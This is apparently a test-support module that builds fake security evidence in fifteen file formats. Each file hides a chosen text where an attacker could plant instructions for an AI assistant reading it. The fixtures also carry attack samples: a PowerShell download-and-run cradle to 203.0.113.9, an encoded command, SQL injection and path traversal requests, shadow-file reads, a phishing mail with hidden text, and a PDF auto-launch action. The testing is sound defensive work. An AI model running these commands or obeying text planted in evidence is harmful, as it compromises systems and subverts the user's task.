"""Evidence in fifteen formats that carries a given text where an attacker could put one, with an attack to find."""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Callable
from urllib.parse import quote
from xml.sax.saxutils import escape

from svc.assistant.file_types.identify import identify
from svc.assistant.turn import TurnFile
from tests.support.captures import capture, conversation
from tests.support.evtx_writer import Record, evtx
from tests.support.mails import made

NEUTRAL = "quarterly figures of the northern branch"
_ATTACK = [
    *(
        f"Nov 20 03:12:{second:02} web1 sshd[{100 + second}]: Failed password for root from 192.0.2.7 port 22 ssh2"
        for second in range(20)
    ),
    "Nov 20 03:12:40 web1 sshd[900]: Accepted password for root from 192.0.2.7 port 22 ssh2",
]  # fmt: skip
_COMMAND = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"


def _one_line(text: str) -> str:
    return text.replace("\n", " ")


def auth_log(text: str) -> bytes:
    user = f"Nov 20 03:12:30 web1 sshd[700]: Invalid user {_one_line(text)} from 192.0.2.7 port 40022"
    return "\n".join([*_ATTACK[:10], user, *_ATTACK[10:]]).encode()


def auth_log_gz(text: str) -> bytes:
    return gzip.compress(auth_log(text))


def syslog(text: str) -> bytes:
    lines = [
        "Nov 20 03:10:01 web1 CRON[88]: (root) CMD (/usr/lib/update)",
        f"Nov 20 03:10:02 web1 app[12]: {_one_line(text)}",
        "Nov 20 03:10:03 web1 sudo: eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
        "Nov 20 03:10:05 web1 useradd[99]: new user: name=svcmon, UID=0, GID=0, home=/root, shell=/bin/bash",
    ]
    return "\n".join(lines).encode()


def web_log(text: str) -> bytes:
    def request(second: int, path: str, agent: str) -> str:
        return f'192.0.2.9 - - [20/Nov/2026:03:12:{second} +0000] "GET {path} HTTP/1.1" 200 9 "-" "{agent}"'

    lines = [
        request(45, "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users", "sqlmap/1.7"),
        request(46, f"/search?q={quote(text)}", "Mozilla/5.0"),
        request(47, "/../../etc/passwd", "sqlmap/1.7"),
    ]
    return "\n".join(lines).encode()


def windows_xml(text: str) -> bytes:
    def event(number: int, command: str) -> str:
        return (
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>"
            f"<TimeCreated SystemTime='2026-11-20T03:12:{number:02}.000Z'/><EventRecordID>{number}</EventRecordID>"
            "<Channel>Security</Channel><Computer>PC01</Computer></System><EventData>"
            "<Data Name='SubjectUserName'>ann</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\cmd.exe</Data>"
            f"<Data Name='CommandLine'>{escape(command)}</Data></EventData></Event>"
        )

    return ("<Events>" + event(1, _COMMAND) + event(2, f"cmd /c echo {text}") + "</Events>").encode()


def windows_json(text: str) -> bytes:
    def event(number: int, command: str) -> str:
        fields = {"Channel": "Security", "EventID": 4688, "Computer": "PC01", "CommandLine": command}
        time = {"TimeCreated": f"2026-11-20T03:12:{number:02}Z", "NewProcessName": "C:\\Windows\\System32\\cmd.exe"}
        return json.dumps(fields | time)

    escaped = "".join(f"\\u{ord(letter):04x}" if ord(letter) < 0x10000 else letter for letter in text)
    return "\n".join([event(1, _COMMAND), event(2, "@").replace("@", escaped)]).encode()


def windows_events(text: str) -> bytes:
    records = [
        Record(number=1, event_id=4688, data={"NewProcessName": "C:\\Windows\\cmd.exe", "CommandLine": _COMMAND}),
        Record(number=2, event_id=4688, data={"NewProcessName": "C:\\Windows\\cmd.exe", "CommandLine": text}),
    ]
    return evtx(records)


def table(text: str) -> bytes:
    quoted = text.replace('"', '""')
    rows = [f"2026-11-20T03:12:{second:02}Z,root,192.0.2.7,failure,ssh" for second in range(20)]
    rows.append("2026-11-20T03:12:40Z,root,192.0.2.7,success,ssh")
    rows.insert(5, f'2026-11-20T03:12:50Z,ann,198.51.100.8,failure,"{quoted}"')
    return "\n".join(["time,user,src,result,message", *rows]).encode()


def mail_text(text: str) -> bytes:
    words = "Your mailbox is blocked. Verify your password at http://login-verify.example.top/a within 24 hours."
    return made(sender="IT <it@mail.example>", subject="Urgent", text=f"{words}\n\n{text}\n")


def mail_html(text: str) -> bytes:
    page = (
        "<html><body><p>Your mailbox is blocked. "
        "<a href='http://login-verify.example.top/a'>Verify your password</a></p>"
        f'<div style="display:none;font-size:0">{escape(text)}</div></body></html>'
    )
    head = (
        "From: IT <it@mail.example>\r\nTo: ann@example.org\r\nSubject: Urgent\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    return head.encode() + base64.encodebytes(page.encode())


def script(text: str) -> bytes:
    stage = base64.b64encode(
        f"# {text}\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")
    )
    return b"$a = 1\npowershell.exe -NoProfile -EncodedCommand " + stage + b"\n"  # fmt: skip


def packets(text: str) -> bytes:
    asked = f"GET /a HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: {_one_line(text)}\r\n\r\n".encode()
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok"
    return capture(conversation([(">", asked), ("<", answer)]))


def archive(text: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("invoice.pdf.exe", b"MZ" + bytes(200))
        packed.writestr(_one_line(text).replace("/", " ")[:200] + ".txt", b"hello")
    return stream.getvalue()


def document(text: str) -> bytes:
    stream = io.BytesIO()
    words = "".join(f'<w:r><w:t xml:space="preserve">{escape(word)} </w:t></w:r>' for word in text.split())
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("word/document.xml", f"<w:document><w:body><w:p>{words}</w:p></w:body></w:document>")
    return stream.getvalue()


def pdf(text: str) -> bytes:
    shown = "".join(f"({letter}) -20 " if letter not in "()\\" else f"(\\{letter}) " for letter in text)
    content = zlib.compress(f"BT /F1 12 Tf [{shown}] TJ ET".encode())
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://203.0.113.9'))>>>>\nendobj\n"
        b"2 0 obj\n<</Filter/FlateDecode/Length " + str(len(content)).encode() + b">>\nstream\n" + content
        + b"\nendstream\nendobj\n%%EOF\n"
    )  # fmt: skip


CARRIERS: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "auth log": ("auth.log", auth_log),
    "packed auth log": ("auth.log.1.gz", auth_log_gz),
    "syslog": ("messages", syslog),
    "web log": ("access.log", web_log),
    "Windows XML": ("security.xml", windows_xml),
    "Windows JSON": ("security.jsonl", windows_json),
    "Windows events": ("security.evtx", windows_events),
    "CSV": ("logins.csv", table),
    "mail": ("mail.eml", mail_text),
    "HTML mail": ("page.eml", mail_html),
    "script": ("run.ps1", script),
    "capture": ("a.pcap", packets),
    "archive": ("a.zip", archive),
    "document": ("a.docx", document),
    "PDF": ("a.pdf", pdf),
}


def carried(kind: str, text: str) -> TurnFile:
    """Evidence of this kind with the text in it."""
    name, made_from = CARRIERS[kind]
    data = made_from(text)
    mime_type, label = identify(data, name)
    return TurnFile(name=name, size=len(data), sha256="", mime_type=mime_type, label=label, source=data)
